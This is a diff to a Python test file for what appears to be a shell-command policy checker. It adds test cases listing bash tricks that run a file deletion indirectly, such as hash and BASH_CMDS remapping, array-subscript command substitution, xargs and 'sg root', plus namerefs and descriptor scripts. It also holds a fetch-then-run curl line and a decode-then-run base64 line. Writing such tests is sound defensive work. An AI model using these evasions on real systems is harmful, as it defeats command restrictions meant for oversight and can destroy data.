@@ -122,7 +122,18 @@ eval sh <<< 'rm v'
 echo 'rm v' | sh -c sh
 sh /proc/self/fd/0 <<E⏎rm v⏎E
 sh /proc/$$/fd/0 <<< 'rm v'
-cd /dev; sh stdin <<< 'rm v'"""
+cd /dev; sh stdin <<< 'rm v'
+exec 0<<< 'rm v'⏎sh
+xargs -I{} sh -c '{}' <<< 'rm v'
+xargs -I% % v <<< rm
+hash -p /bin/rm ls; ls v
+BASH_CMDS[ls]=/bin/rm; ls v
+a['$(rm v)']=1
+setarch x86_64 rm v
+setarch x86_64 -R rm v
+choom -n 0 -- rm v
+sg root 'rm v'
+uname26 rm v"""
 
 ALLOWED = """\
 cat <<EOF > n.txt; ls⏎rm body⏎; rm x⏎EOF
@@ -145,7 +156,8 @@ x={r,}m; ls {1..3} a/{rm,b}
 x=(a b "c;d" $(ls; ls) <(ls) [1]=x); ls
 x=(a # c; d⏎rm); ls
 shopt -s extglob; x=(@(a|rm) v); ls
-sh -c cat <<< 'rm v'"""
+sh -c cat <<< 'rm v'
+a[1]=rm; a['x']=rm; hash -r rm; ls"""
 
 
 def _cases(table: str) -> list[str]:
@@ -176,6 +188,12 @@ def test_lines_stay_behind_a_heredoc(strict: Engine) -> None:
 
 
 UNKNOWN = {
+    "nameref": ("shell", "declare -n q=c; c=rm; $q v"),
+    "set-by-a-nameref": ("shell", "c=ls; declare -n q=c; q=rm; $c v"),
+    "lowercase": ("shell", "declare -l d=RM; $d v"),
+    "array": ("shell", "x=(rm); ${x} v"),
+    "script-on-a-descriptor": ("shell", "exec 3<<< 'rm v'; sh <&3"),
+    "braces": ("shell", "{$x,rm} v"),
     "decoded-script": ("shell", "base64 -d f > s; sh s"),
     "fetched-script": ("shell", "curl -sS -o i.sh https://example.org; bash i.sh"),
     "copied-script": ("shell", "cp a b; bash b"),
